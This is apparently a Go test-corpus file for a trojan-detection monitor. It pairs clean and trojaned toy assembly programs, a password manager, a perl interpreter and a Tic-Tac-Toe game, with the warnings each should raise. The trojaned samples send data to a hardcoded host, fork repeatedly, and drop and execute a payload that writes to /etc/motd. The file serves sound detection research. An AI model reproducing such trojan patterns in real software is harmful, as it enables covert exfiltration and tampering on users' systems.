@@ -1,0 +1,352 @@
+package corpus
+
+import (
+	hth "repro"
+	"repro/internal/secpert"
+)
+
+// §8.4 — Macro benchmarks: real applications, clean and trojaned.
+
+const pwsafeDB = "/.pwsafe.dat"
+
+// pwsafeBase reads the password database and prints it (--exportdb).
+const pwsafeBase = `
+.import "libc.so"
+.import "libcrypto.so"
+.import "libreadline.so"
+.text
+_start:
+    ; open the password database (application-default path)
+    mov ebx, dbpath
+    mov ecx, 0
+    mov eax, 5
+    int 0x80
+    mov ebx, eax
+    mov ecx, dbbuf
+    mov edx, 32
+    mov eax, 3
+    int 0x80
+    ; print the entries (--exportdb)
+    mov edx, eax
+    mov ecx, dbbuf
+    mov ebx, 1
+    mov eax, 4
+    int 0x80
+    mov ebx, 0
+    call exit
+.data
+dbpath: .asciz "/.pwsafe.dat"
+dbbuf:  .space 32
+`
+
+// pwunsafe additionally exfiltrates to the hardcoded duero:40400.
+// The paper notes the prototype missed the database file among the
+// data sources: the observed warnings name only the crypto/readline
+// library buffers (§8.4.1) — reproduced by sending the working
+// buffers those libraries populated.
+const pwunsafe = `
+.import "libc.so"
+.import "libcrypto.so"
+.import "libreadline.so"
+.text
+_start:
+    ; normal operation first
+    mov ebx, dbpath
+    mov ecx, 0
+    mov eax, 5
+    int 0x80
+    mov ebx, eax
+    mov ecx, dbbuf
+    mov edx, 32
+    mov eax, 3
+    int 0x80
+    ; malicious addition: connect to the hardcoded collection server
+    mov eax, 102
+    mov ebx, 1
+    mov ecx, scargs
+    int 0x80
+    mov [scargs], eax
+    mov [scargs+4], srvaddr
+    mov eax, 102
+    mov ebx, 3          ; connect
+    mov ecx, scargs
+    int 0x80
+    ; send the crypto state (data resident in libcrypto.so)
+    mov eax, [crypto_state]
+    mov [sendbuf], eax
+    mov [scargs+4], sendbuf
+    mov [scargs+8], 4
+    mov eax, 102
+    mov ebx, 9          ; send
+    mov ecx, scargs
+    int 0x80
+    ; send the readline history buffer (data in libreadline.so)
+    mov eax, [rl_history]
+    mov [sendbuf], eax
+    mov eax, 102
+    mov ebx, 9
+    mov ecx, scargs
+    int 0x80
+    mov ebx, 0
+    call exit
+.data
+dbpath:  .asciz "/.pwsafe.dat"
+srvaddr: .asciz "duero:40400"
+dbbuf:   .space 32
+sendbuf: .space 4
+scargs:  .space 12
+`
+
+const libcryptoSrc = `
+.image "libcrypto.so"
+.text
+EVP_EncryptInit:
+    ret
+.data
+crypto_state: .word 0x5EC2E7, 0xC0FFEE
+`
+
+const libreadlineSrc = `
+.image "libreadline.so"
+.text
+readline:
+    ret
+.data
+rl_history: .word 0x1157, 0x2257
+`
+
+func installPwsafeLibs(sys *hth.System) {
+	sys.Install("libcrypto.so", mustLib("libcrypto.so", libcryptoSrc))
+	sys.Install("libreadline.so", mustLib("libreadline.so", libreadlineSrc))
+	sys.CreateFile(pwsafeDB, []byte("site1:alice:hunter2\n"))
+}
+
+// mwInterpreter models /usr/bin/perl running the mw2.2.1 script: it
+// reads the script named on the command line and forks once per 'F'
+// directive. HTH monitors the *interpreter* (§8.4.2); dataflow is
+// turned off for this benchmark, as in the paper.
+const mwInterpreter = `
+.text
+_start:
+    mov ebp, [esp+4]
+    mov ebx, [ebp+4]    ; argv[1] = script path
+    mov ecx, 0
+    mov eax, 5          ; open the script
+    int 0x80
+    mov ebx, eax
+    mov ecx, script
+    mov edx, 64
+    mov eax, 3          ; read it
+    int 0x80
+    mov esi, eax        ; script length
+    mov edi, 0
+interp:
+    cmp edi, esi
+    jge done
+    mov ecx, script
+    add ecx, edi
+    movb eax, [ecx]
+    cmp eax, 'F'        ; fork directive
+    jnz next
+    mov eax, 2          ; fork
+    int 0x80
+    cmp eax, 0
+    jz child
+next:
+    inc edi
+    jmp interp
+child:
+    mov ebx, 0
+    mov eax, 1
+    int 0x80
+done:
+    mov ebx, 0
+    mov eax, 1
+    int 0x80
+.data
+script: .space 64
+`
+
+// tttBase is the console Tic-Tac-Toe game: reads moves, prints the
+// board (§8.4.3).
+const tttBase = `
+.text
+_start:
+    mov ebx, 0
+    mov ecx, moves
+    mov edx, 8
+    mov eax, 3          ; read the player's moves
+    int 0x80
+    ; render the board
+    mov ebx, 1
+    mov ecx, board
+    mov edx, 12
+    mov eax, 4
+    int 0x80
+    mov ebx, 0
+    mov eax, 1
+    int 0x80
+.data
+board: .asciz "X| |O\n |X| \n"
+moves: .space 8
+`
+
+// tttTrojan additionally drops a hardcoded payload to a hardcoded
+// file and executes it; the execve fails (not an executable format),
+// exactly as in the paper's test.
+const tttTrojan = `
+.text
+_start:
+    mov ebx, 0
+    mov ecx, moves
+    mov edx, 8
+    mov eax, 3
+    int 0x80
+    mov ebx, 1
+    mov ecx, board
+    mov edx, 12
+    mov eax, 4
+    int 0x80
+    ; trojan: drop and run the payload
+    mov ebx, payfile
+    mov eax, 8          ; creat("./malicious_code.txt")
+    int 0x80
+    mov ebx, eax
+    mov ecx, payload
+    mov edx, 22
+    mov eax, 4          ; write the hardcoded payload
+    int 0x80
+    mov eax, 6
+    int 0x80
+    mov ebx, payfile
+    mov ecx, 0
+    mov edx, 0
+    mov eax, 11         ; execve — fails: not an executable format
+    int 0x80
+    mov ebx, 0
+    mov eax, 1
+    int 0x80
+.data
+board:   .asciz "X| |O\n |X| \n"
+payfile: .asciz "./malicious_code.txt"
+payload: .asciz "echo pwned > /etc/motd"
+moves:   .space 8
+`
+
+func init() {
+	// §8.4.1 pwsafe — clean: no warnings.
+	register(&Scenario{
+		Name:  "pwsafe",
+		Table: "M1",
+		Row:   "pwsafe",
+		Desc:  "password manager exporting its database to stdout: clean",
+		Setup: func(sys *hth.System) {
+			installPwsafeLibs(sys)
+			sys.MustInstallSource("/bin/pwsafe", pwsafeBase)
+		},
+		Spec:   hth.RunSpec{Path: "/bin/pwsafe", Argv: []string{"/bin/pwsafe", "--exportdb"}},
+		Expect: Expectation{Clean: true},
+	})
+
+	// §8.4.1 pwunsafe — the trojaned build: two Low warnings naming
+	// the library buffers flowing to the hardcoded server.
+	register(&Scenario{
+		Name:  "pwunsafe",
+		Table: "M1",
+		Row:   "pwsafe (modified)",
+		Desc:  "trojaned pwsafe exfiltrating to duero:40400: Low warnings per library source",
+		Setup: func(sys *hth.System) {
+			installPwsafeLibs(sys)
+			sys.AddRemote("duero:40400", func() vosScript { return sinkScript{} })
+			sys.MustInstallSource("/bin/pwsafe", pwunsafe)
+		},
+		Spec: hth.RunSpec{Path: "/bin/pwsafe", Argv: []string{"/bin/pwsafe", "--exportdb"}},
+		Expect: Expectation{
+			Capped: true, Cap: secpert.Low,
+			Warnings: []ExpectWarning{
+				{Severity: secpert.Low, Contains: "Data Flowing From: libcrypto.so To: duero:40400 (AF_INET)"},
+				{Severity: secpert.Low, Contains: "Data Flowing From: libreadline.so To: duero:40400 (AF_INET)"},
+				{Severity: secpert.Low, Contains: "target (client) socket-name was hardcoded in:"},
+			},
+		},
+	})
+
+	// §8.4.2 mw2.2.1 — the unmodified script: clean.
+	register(&Scenario{
+		Name:  "mw-clean",
+		Table: "M2",
+		Row:   "mw2.2.1",
+		Desc:  "perl running the word-lookup script: no warnings (dataflow off, as in the paper)",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/usr/bin/perl", mwInterpreter)
+			sys.CreateFile("/home/user/mw2.2.1", []byte("lookup word at merriam-webster"))
+		},
+		Spec:   hth.RunSpec{Path: "/usr/bin/perl", Argv: []string{"/usr/bin/perl", "/home/user/mw2.2.1"}},
+		Tweak:  mwTweak,
+		Expect: Expectation{Clean: true},
+	})
+
+	// §8.4.2 mw2.2.1 modified — forks more than 20 children: the
+	// resource-abuse warnings fire even though HTH monitors the
+	// interpreter, not the script.
+	register(&Scenario{
+		Name:  "mw-forker",
+		Table: "M2",
+		Row:   "mw2.2.1 (modified)",
+		Desc:  "the script forks >20 children; resource-abuse warnings fire on the interpreter",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/usr/bin/perl", mwInterpreter)
+			sys.CreateFile("/home/user/mw2.2.1",
+				[]byte("FFFFFFFFFFFFFFFFFFFFFF")) // 22 forks
+		},
+		Spec:  hth.RunSpec{Path: "/usr/bin/perl", Argv: []string{"/usr/bin/perl", "/home/user/mw2.2.1"}},
+		Tweak: mwTweak,
+		Expect: Expectation{
+			ExactCount: 2,
+			Warnings: []ExpectWarning{
+				{Severity: secpert.Low, Rule: "check_clone_count", Contains: "This call was frequent"},
+				{Severity: secpert.Medium, Rule: "check_clone_rate", Contains: "very frequent in a short period of time"},
+			},
+		},
+	})
+
+	// §8.4.3 Ultra Tic Tac Toe — clean.
+	register(&Scenario{
+		Name:  "ttt",
+		Table: "M3",
+		Row:   "Tic Tac Toe",
+		Desc:  "console game: user moves in, board out — clean",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/usr/games/ttt", tttBase)
+		},
+		Spec:   hth.RunSpec{Path: "/usr/games/ttt", Stdin: []byte("5\n1\n9\n")},
+		Expect: Expectation{Clean: true},
+	})
+
+	// §8.4.3 trojaned Tic Tac Toe — High for the payload drop, Low
+	// for executing it (and the execve fails: not executable).
+	register(&Scenario{
+		Name:  "ttt-trojan",
+		Table: "M3",
+		Row:   "Tic Tac Toe (trojaned)",
+		Desc:  "the game drops ./malicious_code.txt and executes it",
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource("/usr/games/ttt", tttTrojan)
+		},
+		Spec: hth.RunSpec{Path: "/usr/games/ttt", Stdin: []byte("5\n1\n9\n")},
+		Expect: Expectation{
+			ExactCount: 2,
+			Warnings: []ExpectWarning{
+				{Severity: secpert.High, Rule: "check_write", Contains: "Found Write call to ./malicious_code.txt"},
+				{Severity: secpert.Low, Rule: "check_execve", Contains: `Found SYS_execve call ("./malicious_code.txt")`},
+			},
+		},
+	})
+}
+
+// mwTweak reproduces the paper's mw configuration: dataflow tracking
+// off (monitoring perl, not the script), information-flow rules off.
+func mwTweak(cfg *hth.Config) {
+	cfg.Monitor.Dataflow = false
+	cfg.Policy.DisableInfoFlow = true
+}
